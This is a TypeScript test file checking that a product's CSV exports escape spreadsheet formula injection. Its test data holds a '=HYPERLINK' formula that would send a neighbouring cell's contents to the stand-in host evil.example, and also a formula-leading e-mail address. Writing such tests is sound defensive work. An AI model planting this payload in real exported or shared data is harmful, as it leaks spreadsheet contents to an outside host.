import type { Audience } from '@adcontrol/domain/audiences/audience';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers/build-test-app';
import { call, type Person } from '../helpers/callers';
import { createAccount } from '../helpers/fixtures';
import { formulaCells, spreadsheetCells } from '../helpers/spreadsheet-cells';

/**
 * Issue 24 §6: no CSV the product writes holds a cell that a spreadsheet program would run as a formula
 * (decision 044). The company name below, opened in a spreadsheet, would send the cell beside it away.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"Andes")';
let testApp: TestApp;
let admin: Person;
let seller: Person;

beforeAll(async () => {
  testApp = await buildTestApp({ AUDIENCE_DEFAULT_DEVICES: '500' });
  const { db } = testApp.database;
  admin = { id: (await createAccount(db, { role: 'admin' })).id, role: 'admin' };
  seller = { id: (await createAccount(db, { role: 'seller' })).id, role: 'seller' };
});
afterAll(() => testApp.close());

describe('the activity log export', () => {
  it('neutralises an e-mail that starts a formula, and keeps the company inside its JSON cell', async () => {
    const created = await call(testApp, admin, 'POST', '/accounts', {
      email: '-2+3@evil.example',
      role: 'advertiser',
      firstName: 'Andes',
      company: HYPERLINK,
      password: 'correct horse battery',
    });
    expect(created.statusCode, created.body).toBe(201);
    const advertiser: Person = { id: created.json<{ id: number }>().id, role: 'advertiser' };
    const renamed = await call(testApp, advertiser, 'PATCH', '/accounts/me', { company: `${HYPERLINK} 2` });
    expect(renamed.statusCode, renamed.body).toBe(200);

    const response = await call(testApp, admin, 'GET', '/activity/export');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(formulaCells(response.body)).toEqual([]);
    const cells = spreadsheetCells(response.body).flat();
    expect(cells).toContain("'-2+3@evil.example");
    expect(cells.some((cell) => cell.startsWith('{') && cell.includes('HYPERLINK'))).toBe(true);
  });
});

describe('the audience export', () => {
  it('keeps the filters one cell, so no place name becomes a formula', async () => {
    // An audience's own name holds only letters, spaces and digits; a place's name is free text.
    const saved = await call(testApp, seller, 'POST', '/audiences', {
      name: 'Andes',
      filters: {
        geolocalization: {
          coordinates: [
            {
              type: 'point',
              name: `Plaza,${HYPERLINK}`,
              center: { lat: -33.45, lng: -70.66 },
              radio: 20_000,
            },
          ],
        },
      },
    });
    expect(saved.statusCode, saved.body).toBe(201);
    const audience = saved.json<Audience>();

    const response = await call(testApp, seller, 'GET', `/audiences/${audience._id}/export`);
    expect(response.statusCode).toBe(200);
    expect(formulaCells(response.body)).toEqual([]);
    const [, , filters] = spreadsheetCells(response.body);
    expect(filters).toEqual(['# Filters', JSON.stringify(audience.filters)]);
  });
});
